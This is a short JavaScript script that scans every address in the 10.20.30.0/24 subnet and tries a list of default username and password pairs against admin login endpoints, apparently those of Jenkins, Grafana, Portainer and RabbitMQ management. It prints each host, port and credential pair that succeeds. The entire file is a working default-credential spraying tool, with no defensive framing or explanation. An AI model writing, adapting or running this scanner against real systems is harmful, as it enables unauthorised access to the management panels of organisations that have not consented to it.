const hosts = Array.from({ length: 254 }, (_, i) => `10.20.30.${i + 1}`);
const panels = [
  { port: 8080, path: '/j_spring_security_check', form: (u, p) => `j_username=${u}&j_password=${p}` },
  { port: 3000, path: '/login', json: (u, p) => ({ user: u, password: p }) },
  { port: 9000, path: '/api/auth', json: (u, p) => ({ Username: u, Password: p }) },
  { port: 15672, path: '/api/whoami', basic: true },
];
const pairs = ['admin:admin', 'admin:password', 'root:root', 'admin:123456', 'guest:guest', 'admin:changeme', 'jenkins:jenkins']
  .map((x) => x.split(':'));

async function attempt(h, t, [u, p]) {
  const init = { method: 'POST', signal: AbortSignal.timeout(2500), redirect: 'manual', headers: {} };
  if (t.basic) { init.method = 'GET'; init.headers.authorization = 'Basic ' + btoa(`${u}:${p}`); }
  else if (t.json) { init.headers['content-type'] = 'application/json'; init.body = JSON.stringify(t.json(u, p)); }
  else { init.headers['content-type'] = 'application/x-www-form-urlencoded'; init.body = t.form(u, p); }
  const r = await fetch(`http://${h}:${t.port}${t.path}`, init);
  return r.status < 400 && !/loginError/.test(r.headers.get('location') ?? '');
}

await Promise.allSettled(hosts.map(async (h) => {
  for (const t of panels) for (const pair of pairs) {
    try { if (await attempt(h, t, pair)) { console.log(h, t.port, ...pair); break; } } catch { break; }
  }
}));
